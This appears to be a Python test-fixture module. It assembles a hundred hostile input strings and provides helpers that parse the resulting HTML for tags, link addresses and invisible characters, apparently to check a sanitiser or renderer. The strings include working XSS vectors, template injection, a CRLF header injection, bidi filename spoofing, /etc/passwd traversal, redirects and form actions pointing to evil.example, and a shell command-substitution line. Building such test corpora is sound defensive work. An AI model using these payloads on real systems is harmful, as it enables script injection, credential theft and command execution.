"""A hundred texts that want to be more than text."""

from __future__ import annotations

import html.parser
import itertools
import unicodedata

OPENINGS = ("", '"', "'", "</a>", "-->", "]]>", "</title>", "</textarea>", "&quot;", '">')
VECTORS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    " onmouseover=alert(1) x=",
    " style=position:fixed;inset:0 x=",
    "<iframe srcdoc='<script>1</script>'>",
    "{{ 7 * 7 }}{% raw %}",
)
ODD = (
    "\x1b[31mred\x1b[0m",
    "\x00\x01\x08\x7f",
    "a\r\nset-cookie: x=1",
    "\u202egnp.exe",
    "\u2066hidden\u2069",
    "zero\u200bwidth\u200d",
    "\ufeffmark",
    "\u2028line\u2029",
    "\x9b31m",
    "\U000e0041tag",
    "javascript:alert(1)",
    "data:text/html,<script>1</script>",
    "//evil.example/",
    "/\\evil.example",
    "../../../etc/passwd",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=csrf>",
    "<link rel=stylesheet href=//evil.example>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext></table><mglyph><style><img src onerror=alert(1)>",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&lt;b&gt;",
    "<",
    "<!--",
    "\u0000<script>",
    "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    "ſcript\u0130<İmg>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "$(touch x)`id`;",
)
PAYLOADS = tuple(a + b for a, b in itertools.product(OPENINGS, VECTORS)) + ODD
HIDDEN = ("Cc", "Cf", "Cs", "Co", "Zl", "Zp")


class Shape(html.parser.HTMLParser):
    """The tags of a page with the names of their attributes, and the addresses it leads to."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, tuple[str, ...]]] = []
        self.addresses: list[str] = []
        self.text: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag != "wbr":
            self.tags.append((tag, tuple(name for name, _ in attrs)))
        self.addresses += [value or "" for name, value in attrs if name in ("href", "src", "action")]

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def unseen(text: str) -> set[str]:
    """The characters in it that show nothing."""
    return {c for c in text if c != "\n" and unicodedata.category(c) in HIDDEN}


assert len(PAYLOADS) == len(set(PAYLOADS)) == 100
